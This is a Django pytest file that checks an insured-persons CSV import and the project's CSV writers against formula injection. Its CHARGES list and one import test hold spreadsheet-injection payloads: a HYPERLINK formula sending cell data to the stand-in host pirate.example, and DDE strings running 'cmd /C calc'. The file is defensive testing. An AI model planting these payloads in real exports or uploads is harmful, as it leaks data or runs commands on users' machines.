"""Formulas in CSV files (issue 13, finding 7): the operators' import of the insured-persons
register refuses a row whose cell a spreadsheet would run, and every CSV the project writes
neutralises such cells."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from espace_sante.lib.tableur import cellule_neutralisee, ecrivain_csv
from profil import csv_assures
from profil.models import Espace

from ..factories import nir

pytestmark = pytest.mark.django_db

CHARGES = [
    '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("charge", CHARGES)
def test_a_register_row_with_a_formula_in_any_cell_is_refused_with_its_column_named(
    charge: str,
) -> None:
    ins = nir("M", date(1979, 3, 15), 21)
    sortie = io.StringIO()
    ecrivain = csv.writer(sortie, delimiter=";")
    ecrivain.writerow(["ins", "nom_naissance", "prenoms", "date_naissance", "sexe"])
    ecrivain.writerow([ins, charge, "Hugo", "1979-03-15", "M"])
    ecrivain.writerow([ins, "Garnier", charge, "1979-03-15", "M"])
    lignes = list(csv_assures.lire(sortie.getvalue().encode()))
    assert [ligne.identite for ligne in lignes] == [None, None]
    assert "« nom_naissance »" in lignes[0].erreurs[0]
    assert "« prenoms »" in lignes[1].erreurs[0]
    assert "commencer par =, +, -, @" in lignes[0].erreurs[0]


def test_the_operator_sees_the_rejected_rows_and_nothing_of_them_is_stored(
    client_operateur: Client,
) -> None:
    bon, mauvais = nir("M", date(1979, 3, 15), 22), nir("F", date(1981, 4, 2), 23)
    contenu = (
        "ins;nom_naissance;prenoms;date_naissance;sexe\n"
        f"{bon};Garnier;Hugo;1979-03-15;M\n"
        f'{mauvais};"=HYPERLINK(""https://pirate.example"";""x"")";Lina;1981-04-02;F\n'
    )
    fichier = SimpleUploadedFile("assures.csv", contenu.encode(), content_type="text/csv")
    page = client_operateur.post(
        reverse("admin:profil_espace_importer"), {"fichier": fichier}
    ).content.decode()
    assert "1 espace créé, 1 ligne rejetée" in page
    tableau = page.split('id="rejets"')[1].split('id="crees"')[0]
    rejets = dict(re.findall(r"<tr><td>(\d+)</td><td>(.*?)</td></tr>", tableau))
    assert set(rejets) == {"3"} and "formule" in rejets["3"] and "corrigez" in rejets["3"]
    assert list(Espace.objects.values_list("ins", flat=True)) == [bon]


def test_a_written_csv_neutralises_cells_that_start_like_a_formula() -> None:
    sortie = io.StringIO()
    ecrivain_csv(sortie).writerows([[*CHARGES, "Dupont", "-", 12, -3, None]])
    cellules = next(csv.reader(io.StringIO(sortie.getvalue())))
    assert cellules[: len(CHARGES)] == ["'" + charge for charge in CHARGES]
    assert cellules[len(CHARGES) :] == ["Dupont", "'-", "12", "-3", ""]
    assert cellule_neutralisee("+33 6 12 34 56 78") == "'+33 6 12 34 56 78"


def test_no_module_writes_csv_but_through_the_neutralising_writer() -> None:
    racine = Path(__file__).resolve().parents[2]
    fautifs = [
        str(chemin.relative_to(racine))
        for dossier in ("espace_sante", "dossier", "profil", "professionnels", "bench")
        for chemin in (racine / dossier).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", chemin.read_text(encoding="utf-8"))
        and chemin.name != "tableur.py"
    ]
    assert fautifs == []
